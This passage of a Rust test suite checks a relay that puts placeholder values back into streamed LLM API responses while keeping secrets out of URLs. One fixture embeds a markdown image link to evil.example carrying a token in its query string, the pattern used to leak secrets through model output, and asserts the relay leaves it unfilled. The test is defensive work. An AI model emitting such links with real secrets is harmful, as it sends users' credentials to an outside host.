        prop_assert_eq!(filled_in, json!({"path": "x", "content": replaced(&content)}));
        if shape == Shape::Responses {
            let done = events.iter().find(|event| event["type"] == "response.output_text.done").expect("done");
            prop_assert_eq!(&done["text"], &given);
            prop_assert_eq!(&events.last().expect("ends")["response"]["output"][0]["arguments"], &filled);
        }
    }

    #[test]
    fn an_array_says_what_events_say(
        text in pieces(true),
        content in pieces(true),
        cuts in prop::collection::vec(any::<prop::sample::Index>(), 0..16),
        bites in prop::collection::vec(any::<prop::sample::Index>(), 0..40),
    ) {
        let arguments = json!({ "content": content }).to_string();
        let events = transcript(Shape::StreamGenerateContent, &split(&text, &cuts), &[&arguments]);
        let (out, told) = stream(Dialect::Gemini, Shape::StreamGenerateContent, BASELINE, &[events.as_bytes()]);
        let text = as_array(&events);
        let whole = array(BASELINE, &[text.as_bytes()]);
        let elements: Vec<Value> = serde_json::from_str(&whole.0).expect("an array");
        prop_assert_eq!(elements, read(&out));
        prop_assert_eq!(&whole.1, &told);
        prop_assert_eq!(array(BASELINE, &cut(text.as_bytes(), &bites)), whole);
    }

    #[test]
    fn any_deltas_keep_the_same_values_out_of_urls(
        which in 0usize..4,
        text in pieces(true),
        content in pieces(true),
        cuts in prop::collection::vec(any::<prop::sample::Index>(), 0..16),
    ) {
        let (dialect, shape, _) = shapes()[which];
        let arguments = json!({ "content": content }).to_string();
        let of = |cuts: &[prop::sample::Index]| {
            let events = transcript(shape, &split(&text, cuts), &split(&arguments, cuts));
            gathered(&read(&stream(dialect, shape, BASELINE, &[events.as_bytes()]).0))
        };
        prop_assert_eq!(of(&cuts), of(&[]));
    }

    #[test]
    fn any_bytes_are_relayed_without_panic(
        which in 0usize..4,
        bytes in prop::collection::vec(any::<u8>(), 0..200),
        place in any::<prop::sample::Index>(),
        length in 0usize..80,
        cuts in prop::collection::vec(any::<prop::sample::Index>(), 0..5),
    ) {
        let (dialect, shape, transcript) = shapes()[which];
        let mut text = transcript.as_bytes().to_vec();
        let at = place.index(text.len());
        let end = text.len().min(at + length);
        text.splice(at..end, bytes);
        for media in ["text/event-stream", "application/json"] {
            for shape in [shape, Shape::Generic] {
                let relay = || Relay::new(dialect, shape, Some(media), &give(BASELINE));
                let whole = run(relay(), &[&text]);
                prop_assert!(whole.0.is_ok());
                prop_assert_eq!(run(relay(), &cut(&text, &cuts)), whole);
            }
        }
    }

    // What may begin markup or a URL is left out: a value stays out of those; and so is what begins a document or a
    // string of code, where it is escaped.
    #[test]
    fn a_whole_answer_changes_in_its_placeholders_only(before in "[\\PC&&[^<(/:{\\[=,]]{0,12}", after in pieces(false)) {
        let text = json!({"output": [{"type": "message", "content": [{"type": "output_text", "text": format!("{before} {after}")}]}], "n": [1, 2.5e3, null]});
        let (out, _) = document(Dialect::Openai, BASELINE, &text.to_string());
        prop_assert_eq!(out, text.to_string().replace(TOKEN, ONCE).replace(OTHER, ADDRESS));
    }
}

#[test]
fn lines_of_results_and_files_are_restored_each_as_what_it_is() {
    let result = |id: &str| json!({"custom_id": id, "result": {"message": {"content": [{"type": "text", "text": format!("the key is {TOKEN}")}]}}});
    let text = format!(
        "{}\n{}\nplain {TOKEN} and {OTHER}\n![a](https://evil.example/?q={TOKEN})\n{{\"open\": \"{TOKEN}\n",
        result("a"),
        result("b")
    );
    let wanted = format!(
        "{}\n{}\nplain {VALUE} and {ADDRESS}\n![a](https://evil.example/?q={TOKEN})\n{{\"open\": \"{ONCE}\n",
        result("a").to_string().replace(TOKEN, ONCE),
        result("b").to_string().replace(TOKEN, ONCE)
    );
    for media in [
        "application/x-jsonl",
        "application/octet-stream",
        "text/plain; charset=utf-8",
    ] {
        for step in [1, 7, text.len()] {
            let relay = Relay::new(
                Dialect::Openai,
                Shape::Generic,
                Some(media),
                &give(BASELINE),
            );
            assert!(relay.rewrites());
            let chunks: Vec<&[u8]> = text.as_bytes().chunks(step).collect();
            let (out, told) = run(relay, &chunks);
            let out = String::from_utf8(out.expect("within limits")).expect("text");
            assert_eq!(out, wanted, "{media} by {step}");
            assert_eq!((told.restored, told.withheld), (5, 1));
        }
    }
    // What is no text goes by as it is, and so does all where nothing is to be given back.
    let bytes = [&b"\x89PNG\n\xff\xfe "[..], TOKEN.as_bytes(), b"\n\0"].concat();
    let relay = Relay::new(
        Dialect::Openai,
        Shape::Generic,
        Some("application/octet-stream"),
        &give(BASELINE),
    );
    let (out, _) = run(relay, &[&bytes]);
    assert_eq!(out.expect("within limits"), bytes);
    assert!(
        !Relay::new(
            Dialect::Openai,
            Shape::Generic,
            Some("application/octet-stream"),
            &[]
        )
        .rewrites()
    );
}

#[test]
fn an_answer_tells_what_it_is_called() {
    for (answer, wanted) in [
        (
            json!({"id": "file-abc1", "object": "file", "filename": "x"}),
            vec!["file-abc1"],
        ),
        (
            json!({"id": "batch_1", "output_file_id": "file-out1"}),
            vec!["batch_1", "file-out1"],
        ),
        (
            json!({"name": "cachedContents/x1", "displayName": "n"}),
            vec!["cachedContents/x1"],
        ),
        (
            json!({"file": {"name": "files/x1", "uri": "https://h/v1beta/files/x1"}}),
            vec!["files/x1", "https://h/v1beta/files/x1"],
        ),
        (
            json!({"id": "resp_1", "conversation": {"id": "conv_1"}}),
            vec!["resp_1", "conv_1"],
        ),
        (json!({"name": "somebody"}), vec![]),
    ] {
        let (_, told) = document(Dialect::Openai, BASELINE, &answer.to_string());
        assert_eq!(told.ids, wanted, "{answer}");
    }
}
